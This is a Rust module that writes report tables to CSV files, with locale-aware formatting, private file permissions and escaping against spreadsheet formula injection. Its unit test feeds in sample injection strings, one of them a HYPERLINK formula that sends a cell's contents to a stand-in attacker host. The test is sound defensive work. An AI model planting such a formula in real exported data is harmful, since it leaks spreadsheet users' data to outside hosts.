//! CSV: one file per table in a directory, UTF-8 with a byte-order mark (so that spreadsheet
//! programs read accents right), CRLF line ends (RFC 4180). English files use ',' between
//! fields and '.' as the decimal mark; French files ';' and ','. Money is in major units
//! without grouping; waiting and service times in minutes, open and busy times in hours,
//! shares in percent; dates as YYYY-MM-DD and times as YYYY-MM-DD HH:MM, in the centre's time
//! zone. A text that a spreadsheet would take for a formula (it begins with '=', '+', '-', '@',
//! a tab or a carriage return) is written after an apostrophe, so that it is shown, never run:
//! citizens' comments are typed by anyone.

use std::io::Write;
use std::path::Path;

use guichet_domain::money::Currency;

use crate::error::{Error, Result};
use crate::locale::Locale;
use crate::model::Report;
use crate::table::{Cell, Table, tables};

/// Writes every table of the report as `<id>.csv` into `dir`, which must exist.
pub fn write_csv_dir(report: &Report, dir: &Path) -> Result<()> {
    let locale = report.header.locale;
    for table in tables(report) {
        let path = dir.join(format!("{}.csv", table.id));
        let bytes = csv_bytes(&table, locale, &report.header.currency);
        // Names, refund reasons and citizens' comments: readable by their user alone.
        let mut options = std::fs::OpenOptions::new();
        options.write(true).create_new(true);
        #[cfg(unix)]
        std::os::unix::fs::OpenOptionsExt::mode(&mut options, 0o600);
        options
            .open(&path)
            .and_then(|mut f| {
                f.write_all(BOM.as_bytes())
                    .and_then(|()| f.write_all(&bytes))
            })
            .map_err(|source| Error::Write { path, source })?;
    }
    Ok(())
}

/// The byte-order mark that starts each file.
pub const BOM: &str = "\u{feff}";

/// Every table in one stream, for a pipe: the mark once, then the tables one after another,
/// each with its header line, separated by an empty line.
pub fn csv_stream(report: &Report) -> Vec<u8> {
    let mut out = BOM.as_bytes().to_vec();
    for (i, table) in tables(report).iter().enumerate() {
        if i > 0 {
            out.extend_from_slice(b"\r\n");
        }
        out.extend(csv_bytes(
            table,
            report.header.locale,
            &report.header.currency,
        ));
    }
    out
}

/// One table as CSV, without the byte-order mark.
pub fn csv_bytes(table: &Table, locale: Locale, currency: &Currency) -> Vec<u8> {
    let delimiter = locale.csv_delimiter();
    let mut out = String::new();
    let mut line = |fields: Vec<String>| {
        let quoted: Vec<String> = fields.iter().map(|f| quote(f, delimiter)).collect();
        out.push_str(&quoted.join(&delimiter.to_string()));
        out.push_str("\r\n");
    };
    line(table.columns.clone());
    for row in &table.rows {
        line(row.iter().map(|c| cell_text(c, locale, currency)).collect());
    }
    out.into_bytes()
}

fn quote(field: &str, delimiter: char) -> String {
    if field.contains([delimiter, '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field.to_owned()
    }
}

fn cell_text(cell: &Cell, locale: Locale, currency: &Currency) -> String {
    match cell {
        Cell::Text(t) if t.starts_with(['=', '+', '-', '@', '\t', '\r']) => format!("'{t}"),
        Cell::Text(t) => t.clone(),
        Cell::Count(n) => n.to_string(),
        Cell::Money(minor) => locale.money_plain(*minor, currency),
        Cell::Minutes(s) => locale.plain(s / 60.0, 1),
        Cell::Hours(s) => locale.plain(s / 3600.0, 2),
        Cell::Share(v) => locale.plain(v * 100.0, 1),
        Cell::Decimal(v, digits) => locale.plain(*v, *digits),
        Cell::Date(d) => d.to_string(),
        Cell::Time(t) => t.format("%Y-%m-%d %H:%M").to_string(),
        Cell::Empty => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quotes_only_what_needs_it() {
        assert_eq!(quote("a;b", ';'), "\"a;b\"");
        assert_eq!(quote("a,b", ';'), "a,b");
        assert_eq!(quote("say \"hi\"", ','), "\"say \"\"hi\"\"\"");
        assert_eq!(quote("two\nlines", ','), "\"two\nlines\"");
    }

    #[test]
    fn a_text_a_spreadsheet_would_run_is_written_to_be_shown() {
        let eur = Currency::parse("EUR").unwrap();
        let text = |t: &str| cell_text(&Cell::Text(t.into()), Locale::En, &eur);
        for formula in [
            "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(text(formula), format!("'{formula}"));
        }
        assert_eq!(text("Very helpful = thanks"), "Very helpful = thanks");
        assert_eq!(cell_text(&Cell::Money(-250), Locale::En, &eur), "-2.50");
    }
}
